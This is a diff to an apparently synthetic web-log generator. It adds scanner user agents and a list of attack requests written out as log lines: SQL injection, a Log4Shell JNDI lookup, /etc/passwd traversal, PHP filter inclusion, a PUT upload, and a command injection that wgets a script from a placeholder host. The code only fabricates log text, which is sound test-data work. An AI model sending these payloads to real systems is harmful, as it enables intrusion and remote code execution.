@@ -133,6 +133,46 @@ def _refused(world: World, at: datetime) -> str:
     return _line(world.outside(), "-", at, f"GET {world.pick(_PROBES)} HTTP/1.1", status, 153, "-", agent)
 
 
+_SCANNERS = (
+    ("203.0.113.12", "Mozilla/5.0 zgrab/0.x"),
+    ("192.0.2.188", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
+    ("203.0.113.118", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
+    ("2001:db8:13::7", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
+)
+_ATTEMPTS = (
+    ("GET /search?q=1%27%20OR%201=1--%20- HTTP/1.1", 200, 15120, "python-requests/2.31.0"),
+    ("GET /search?q=-1%20UNION%20SELECT%201,2,3 HTTP/1.1", 403, 1160, "python-requests/2.31.0"),
+    ("GET /?x=${jndi:ldap://203.0.113.40/a} HTTP/1.1", 200, 15120, "Mozilla/5.0"),
+    ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1", 400, 157, "curl/8.5.0"),
+    ("GET /index.php?page=php://filter/resource=index HTTP/1.1", 404, 153, "curl/8.5.0"),
+    ("GET /;wget+http://203.0.113.40/x.sh HTTP/1.1", 404, 153, "Go-http-client/1.1"),
+    ("PUT /test.jsp/ HTTP/1.1", 405, 559, "curl/8.5.0"),
+)
+_TRIER = "203.0.113.40"
+
+
+def portal(world: World, count: int) -> Iterator[tuple[datetime, str]]:
+    """The public portal with the scanners that visit every address of the Internet, day by day."""
+    probes = count // 250
+    yield from sorted([*nginx(world, count - probes), *_probed(world, probes)])
+
+
+def _probed(world: World, count: int) -> Iterator[tuple[datetime, str]]:
+    for at in world.moments(count):
+        if world.chance(0.7):
+            client, agent = world.pick(_SCANNERS)
+            target = world.pick(("/", *_PROBES[:5]))
+            yield (
+                at,
+                _line(
+                    client, "-", at, f"GET {target} HTTP/1.1", 200 if target == "/" else 404, 153, "-", agent
+                ),
+            )
+        else:
+            request, status, size, agent = world.pick(_ATTEMPTS)
+            yield at, _line(_TRIER, "-", at, request, status, size, "-", agent)
+
+
 _EDOC = (
     "/edoc/inbox",
     "/edoc/view?id=7741",
